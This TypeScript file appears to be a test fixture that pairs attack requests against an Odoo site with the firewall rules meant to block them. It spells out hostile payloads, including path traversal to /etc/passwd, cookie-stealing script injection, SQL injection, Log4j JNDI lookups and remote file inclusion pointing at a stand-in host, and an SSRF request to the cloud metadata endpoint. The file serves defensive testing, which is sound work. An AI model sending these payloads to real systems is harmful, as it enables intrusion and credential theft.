import { type HttpRequest, request } from './http-request.ts';

/** An attack, and the rule that stops it. */
export interface Attack {
  readonly what: string;
  readonly request: HttpRequest;
  readonly stoppedBy: string;
}

const COMMON = 'AWSManagedRulesCommonRuleSet';
const BAD_INPUTS = 'AWSManagedRulesKnownBadInputsRuleSet';
const SQL = 'AWSManagedRulesSQLiRuleSet';

const get = (url: string, headers: Record<string, string> = {}) => request('GET', url, { headers });
const signIn = (body: string, headers: Record<string, string> = {}, url = '/web/login') =>
  request('POST', url, {
    headers: { 'content-type': 'application/x-www-form-urlencoded', ...headers },
    body,
  });

export const ATTACKS: readonly Attack[] = [
  {
    what: 'climbing out of a directory in the query',
    request: get('/web/content?path=..%2F..%2Fetc%2Fpasswd'),
    stoppedBy: `${COMMON}/GenericLFI_QUERYARGUMENTS`,
  },
  {
    what: 'climbing out of a directory in the path of a file',
    request: get('/web/content/..%2f..%2fetc/passwd'),
    stoppedBy: `${COMMON}/GenericLFI_URIPATH`,
  },
  {
    what: 'a script in the query',
    request: get(`/shop?search=${encodeURIComponent('<script>alert(document.cookie)</script>')}`),
    stoppedBy: `${COMMON}/CrossSiteScripting_QUERYARGUMENTS`,
  },
  {
    what: 'a script in a cookie',
    request: get('/', { cookie: 'frontend_lang=<img src=x onerror=alert(1)>' }),
    stoppedBy: `${COMMON}/CrossSiteScripting_COOKIE`,
  },
  {
    what: 'SQL in the query',
    request: get(`/shop?category=${encodeURIComponent("1' or '1'='1")}`),
    stoppedBy: `${SQL}/SQLi_QUERYARGUMENTS`,
  },
  {
    what: 'SQL in a cookie',
    request: get('/', { cookie: "session_id=1' or '1'='1" }),
    stoppedBy: `${SQL}/SQLi_COOKIE`,
  },
  {
    what: 'a look-up of Log4j in a header',
    request: get('/', { 'user-agent': '${jndi:ldap://192.0.2.9/a}' }),
    stoppedBy: `${BAD_INPUTS}/Log4JRCE_HEADER`,
  },
  {
    what: 'a look-up of Log4j in the query',
    request: get('/web/login?login=%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.9%2Fa%7D'),
    stoppedBy: `${BAD_INPUTS}/Log4JRCE_QUERYSTRING`,
  },
  {
    what: 'a file of another server in the query',
    request: get('/web/content?url=http://192.0.2.9/shell.txt'),
    stoppedBy: `${COMMON}/GenericRFI_QUERYARGUMENTS`,
  },
  {
    what: 'the credentials of the instance',
    request: get('/web/image?url=http://169.254.169.254/latest/meta-data/'),
    stoppedBy: `${COMMON}/EC2MetaDataSSRF_QUERYARGUMENTS`,
  },
  {
    what: 'files of other servers',
    request: get('/WEB-INF/web.xml'),
    stoppedBy: `${BAD_INPUTS}/ExploitablePaths_URIPATH`,
  },
  {
    what: 'listing by WebDAV',
    request: request('PROPFIND', '/'),
    stoppedBy: `${BAD_INPUTS}/PROPFIND_METHOD`,
  },
  {
    what: 'claiming to be the server itself',
    request: get('/', { host: 'localhost' }),
    stoppedBy: `${BAD_INPUTS}/Host_localhost_HEADER`,
  },
  {
    what: 'a scanner',
    request: get('/', { 'user-agent': 'Mozilla/5.0 (compatible; Nmap Scripting Engine)' }),
    stoppedBy: `${COMMON}/UserAgent_BadBots_HEADER`,
  },
  {
    what: 'cookies of more than 10 KB',
    request: get('/', { cookie: `a=${'x'.repeat(10_300)}` }),
    stoppedBy: `${COMMON}/SizeRestrictions_Cookie_HEADER`,
  },
  {
    what: 'a log file where Odoo has no files',
    request: get('/var/odoo.log'),
    stoppedBy: 'PathsOutsideFiles',
  },
  {
    what: 'a configuration file behind what looks like a path of files until it is resolved',
    request: get('/web/content/%2e%2e/%2e%2e/odoo.ini'),
    stoppedBy: `${COMMON}/GenericLFI_URIPATH`,
  },
  {
    what: 'a path of more than 1 KB where Odoo has no files',
    request: get(`/odoo/${'a'.repeat(1100)}`),
    stoppedBy: 'PathsOutsideFiles',
  },
  {
    what: 'hiding behind 8 KB of padding at the sign-in form',
    request: signIn(`padding=${'x'.repeat(8200)}&login=admin&password=x`),
    stoppedBy: 'SignInForms',
  },
  {
    what: 'a program without a User-Agent at the sign-in form',
    request: signIn('login=admin&password=x', { 'user-agent': '' }),
    stoppedBy: 'SignInForms',
  },
  {
    what: 'the same, by another spelling of the path',
    request: signIn('login=admin&password=x', { 'user-agent': '' }, '/fr//web/./%6cogin/'),
    stoppedBy: 'SignInForms',
  },
  {
    what: 'a look-up of Log4j at the sign-in form',
    request: signIn('login=%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.9%2Fa%7D&password=x'),
    stoppedBy: 'SignInForms',
  },
  {
    what: 'a file of another server at the form for a new password',
    request: signIn('login=http%3A%2F%2F192.0.2.9%2Fa', {}, '/web/reset_password'),
    stoppedBy: 'SignInForms',
  },
];
